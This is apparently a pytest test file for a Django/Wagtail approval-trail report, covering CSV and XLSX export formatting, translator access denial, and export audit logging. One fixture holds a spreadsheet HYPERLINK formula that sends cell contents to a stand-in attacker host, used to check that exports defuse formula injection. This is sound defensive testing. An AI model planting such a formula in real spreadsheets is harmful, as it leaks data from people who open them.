"""The approval trail's exports read as the admin shows it and open safely in a spreadsheet."""

import csv
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse

from approvals.models import PartnerDecision
from approvals.tests.helpers import decide, submit

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Cliquez")'


@pytest.fixture
def decided(clients, article):
    submit(clients["editor"], article)
    decide(clients["dgct"], article, comment="Conforme.")
    decide(clients["arm"], article, "reject", comment=FORMULA)
    return article


def csv_rows(client):
    response = client.get(reverse("approvals:report"), {"export": "csv"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def xlsx_rows(client):
    response = client.get(reverse("approvals:report"), {"export": "xlsx"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    values = [[cell.value for cell in row] for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()]
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def test_csv_gives_local_times_to_the_second_language_names_and_links(clients, decided):
    rows = csv_rows(clients["editor"])  # the editor's admin is in French
    decision = PartnerDecision.objects.get(partner="dgct")
    local = decision.decided_at.astimezone(ZoneInfo(settings.TIME_ZONE)).replace(microsecond=0, tzinfo=None)
    row = next(row for row in rows if row["Commentaire"] == "Conforme.")
    assert row["Date et heure"] == local.isoformat(sep=" ")
    assert row["Langue"] == "Français"
    assert row["Lien"] == f"{settings.WAGTAILADMIN_BASE_URL}/admin/pages/{decided.pk}/edit/"


def test_a_comment_that_looks_like_a_formula_is_exported_as_text(clients, decided):
    for rows in (csv_rows(clients["editor"]), xlsx_rows(clients["editor"])):
        comments = {row["Commentaire"] for row in rows}
        assert "'" + FORMULA in comments
        assert FORMULA not in comments


def test_xlsx_gives_local_times_to_the_second(clients, decided):
    rows = xlsx_rows(clients["editor"])
    decision = PartnerDecision.objects.get(partner="dgct")
    local = decision.decided_at.astimezone(ZoneInfo(settings.TIME_ZONE)).replace(microsecond=0, tzinfo=None)
    assert next(row for row in rows if row["Commentaire"] == "Conforme.")["Date et heure"] == local


@pytest.mark.parametrize("username", ["translator_ar", "translator_en", "translator_fr"])
def test_translators_cannot_read_or_export_the_trail(clients, decided, username):
    for params in ({}, {"export": "csv"}, {"export": "xlsx"}):
        response = clients[username].get(reverse("approvals:report"), params)
        assert response.status_code in (302, 403)
        assert b"Conforme." not in (
            response.content if not response.streaming else b"".join(response.streaming_content)
        )
    menu = clients[username].get("/admin/").content.decode()
    assert reverse("approvals:report") not in menu


@pytest.mark.parametrize("username", ["editor", "dgct", "arm", "embassy", "admin"])
def test_editors_reviewers_and_superusers_read_the_trail_and_each_export_is_logged(clients, users, decided, username):
    from wagtail.models import ModelLogEntry

    assert clients[username].get(reverse("approvals:report")).status_code == 200
    assert reverse("approvals:report") in clients[username].get("/admin/").content.decode()
    response = clients[username].get(reverse("approvals:report"), {"export": "csv"}, REMOTE_ADDR="198.51.100.50")
    assert response.status_code == 200
    entry = ModelLogEntry.objects.get(action="portal.export", user=users[username])
    assert entry.data == {"ip": "198.51.100.50", "report": "approvals", "format": "csv"}
